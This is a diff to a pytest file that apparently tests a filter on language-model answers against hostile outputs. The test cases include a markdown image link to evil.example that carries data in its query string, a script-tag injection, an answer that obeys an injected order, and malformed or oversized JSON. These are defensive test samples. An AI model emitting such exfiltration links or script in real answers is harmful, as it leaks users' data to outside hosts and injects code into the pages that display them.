@@ -118,7 +118,7 @@ def outcome(whole):
                      id="obeys an injected order"),
         pytest.param(f"{GOOD} ![x](https://evil.example/?q=dam) [1].", PASSED_ON,
                      id="smuggles an address"),
-        pytest.param(f"<script>alert(17)</script> {GOOD} [1].", PASSED_ON, id="writes markup"),
+        pytest.param(f"<script>alert(17)</script> {GOOD} [1].", NOTHING, id="writes markup"),
         pytest.param('{"statements": [{"text": "Gate 3', PASSED_ON, id="breaks its JSON"),
         pytest.param('{"answer": "Lisbon"}', PASSED_ON, id="sends other JSON"),
         pytest.param("[[[[" * 5_000, PASSED_ON, id="opens brackets"),
